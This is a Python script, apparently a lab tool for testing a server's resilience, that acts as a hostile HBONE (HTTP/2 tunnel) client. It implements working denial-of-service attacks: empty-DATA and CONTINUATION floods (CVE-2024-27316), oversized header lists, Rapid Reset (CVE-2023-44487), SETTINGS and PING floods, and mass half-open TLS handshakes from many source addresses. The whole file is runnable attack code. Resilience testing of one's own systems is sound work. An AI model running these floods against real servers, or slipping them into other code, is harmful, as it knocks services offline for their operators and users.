"""A hostile HBONE client with a good certificate, or none at all; prints how far it came."""

import argparse
import select
import socket
import ssl
import time

import hbone
from hbone import ACK, CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS

# Bytes to write at a time: some TLS records.
BLOCK = 1 << 16


class Raw:
    """Frames as bytes, without a library that knows what is allowed. Nothing is read unless asked."""

    def __init__(self, to, context):
        self.tls = hbone.wrap(hbone.dial(to), context)
        self.tls.sendall(PREFACE + hbone.frame(SETTINGS, 0, 0) + hbone.frame(SETTINGS, ACK, 0))
        self.tls.setblocking(False)
        self.end = None

    def send(self, block):
        """Writes all of it, or finds the connection ended, or the peer no longer reading."""
        deadline = time.monotonic() + PATIENCE
        while self.end is None:
            try:
                sent = self.tls.send(block)
                block = block[sent:]
                if not block:
                    return
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                if time.monotonic() > deadline:
                    self.end = "stuck"
                time.sleep(0.001)
            except OSError as error:
                self.end = type(error).__name__

    def drain(self):
        """Reads what is there, so that an end is seen."""
        try:
            while self.tls.recv(BLOCK):
                pass
            self.end = self.end or "eof"
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError as error:
            self.end = self.end or type(error).__name__


# How long a write may wait for a peer that does not read.
PATIENCE = 1


def flood(arguments, block, frames, start=b"", read=True):
    """Sends a block of frames again and again."""
    context = hbone.client_context(arguments.ca, identity=arguments.identity)
    total, connections, longest, end = 0, 0, 0, None
    while total < arguments.count and connections < arguments.connections:
        connections += 1
        try:
            raw = Raw(arguments.to, context)
        except OSError as error:
            # A busy server may not let the next one in at once.
            end = type(error).__name__
            continue
        raw.send(start)
        sent = 0
        while total < arguments.count and raw.end is None:
            raw.send(block(sent) if callable(block) else block)
            sent += frames
            total += frames
            if read:
                raw.drain()
        # The last one may have been cut short by the count.
        longest, end = max(longest, sent), raw.end or end
        raw.tls.close()
    hbone.say(attack=arguments.what, sent=total, connections=connections, longest=longest, end=end)


def empty_data(arguments):
    """DATA frames without data, which cost the sender nothing and no window holds back."""
    start = hbone.frame(HEADERS, END_HEADERS, 1, hbone.connect_block(arguments.authority))
    flood(arguments, hbone.frame(DATA, 0, 1) * 20_000, 20_000, start)


def continuation(arguments):
    """A header block that does not end (CVE-2024-27316)."""
    start = hbone.frame(HEADERS, 0, 1, hbone.connect_block(arguments.authority))
    # Literals of 1,000 bytes each.
    literal = b"\x00\x01x" + b"\x7f" + bytes([0xE9, 0x06]) + b"y" * 1000
    flood(arguments, hbone.frame(CONTINUATION, 0, 1, literal * 15), 1, start)


def header_list(arguments):
    """Requests with a longer list of headers than is accepted, one after the other."""
    literal = b"\x00\x01x" + b"\x7f" + bytes([0xE9, 0x06]) + b"y" * 1000
    fifteen = literal * 15

    def request(sent):
        stream = 2 * sent + 1
        block = hbone.frame(HEADERS, 0, stream, hbone.connect_block(arguments.authority))
        block += hbone.frame(CONTINUATION, 0, stream, fifteen) * 6
        return block + hbone.frame(CONTINUATION, END_HEADERS, stream, literal)

    flood(arguments, request, 1)


def rapid_reset(arguments):
    """Requests that are reset at once (CVE-2023-44487)."""
    headers = hbone.connect_block(arguments.authority)

    def hundred(sent):
        pairs = []
        for stream in range(2 * sent + 1, 2 * sent + 201, 2):
            pairs.append(hbone.frame(HEADERS, END_HEADERS, stream, headers))
            pairs.append(hbone.frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
        return b"".join(pairs)

    flood(arguments, hundred, 100)


def settings(arguments):
    """Settings that change the window of every stream, none of the acknowledgements read."""
    big, small = (hbone.frame(SETTINGS, 0, 0, b"\0\x04" + size.to_bytes(4, "big")) for size in (1 << 20, 1))
    flood(arguments, (big + small) * 2000, 4000, read=False)


def ping(arguments):
    """Pings, none of the answers read."""
    flood(arguments, hbone.frame(PING, 0, 0, b"weirweir") * 4000, 4000, read=False)


def half_open(arguments):
    """Handshakes that begin and do not go on, from many addresses, many at a time."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = hbone.client_context(arguments.ca).wrap_bio(incoming, outgoing)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    to = hbone.address(arguments.to)
    open_ones, poll, ended = {}, select.epoll(), 0
    deadline = time.monotonic() + arguments.seconds

    def look(patience):
        """Speaks on those connected meanwhile, and drops those that the server ended."""
        nonlocal ended
        for number, events in poll.poll(patience):
            connection = open_ones[number]
            try:
                if events & select.EPOLLOUT:
                    # Each a part of its own length, and then nothing more.
                    connection.send(hello[: 1 + number % (len(hello) - 1)])
                    poll.modify(number, select.EPOLLIN)
                elif connection.recv(4096) == b"":
                    raise ConnectionError
            except OSError:
                ended += 1
                poll.unregister(number)
                open_ones.pop(number).close()

    for number in range(arguments.count):
        connection = socket.socket()
        connection.setblocking(False)
        connection.setsockopt(socket.SOL_IP, socket.IP_BIND_ADDRESS_NO_PORT, 1)
        connection.bind((arguments.sources[number % len(arguments.sources)], 0))
        connection.connect_ex(to)
        open_ones[connection.fileno()] = connection
        poll.register(connection, select.EPOLLOUT)
        if number % 100 == 0:
            look(0)
    # What is let in stays; everything else ends.
    while len(open_ones) > arguments.let_in and time.monotonic() < deadline:
        look(0.1)
    hbone.say(attack=arguments.what, sent=arguments.count, ended=ended, open=len(open_ones))


def main():
    parser = argparse.ArgumentParser()
    attacks = [empty_data, continuation, header_list, rapid_reset, settings, ping, half_open]
    by_name = {attack.__name__.replace("_", "-"): attack for attack in attacks}
    parser.add_argument("what", choices=by_name)
    parser.add_argument("--to", required=True, help="address and port of the server")
    parser.add_argument("--ca", required=True, help="folder of the lab's authority")
    parser.add_argument("--count", type=int, required=True, help="frames, requests or connections at most")
    parser.add_argument("--connections", type=int, default=1, help="connections at most, one after the other")
    parser.add_argument("--authority", default="")
    parser.add_argument("--identity", default="shop/peer")
    parser.add_argument("--sources", nargs="*", help="own addresses to connect from")
    parser.add_argument("--let-in", type=int, default=0, help="connections that may stay open")
    parser.add_argument("--seconds", type=float, default=30, help="how long to wait for the others to end")
    arguments = parser.parse_args()
    by_name[arguments.what](arguments)


main()
